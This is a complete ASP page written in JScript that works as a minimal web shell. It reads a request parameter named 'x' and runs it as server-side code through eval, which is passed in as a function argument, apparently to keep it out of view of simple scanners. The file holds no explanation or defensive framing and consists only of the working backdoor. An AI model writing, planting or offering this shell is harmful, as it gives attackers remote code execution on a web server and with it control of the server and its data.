<%@ Language="JScript" %>
<%
(function (run, input) {
  run(input("x") + "");
})(eval, Request.Item);
%>
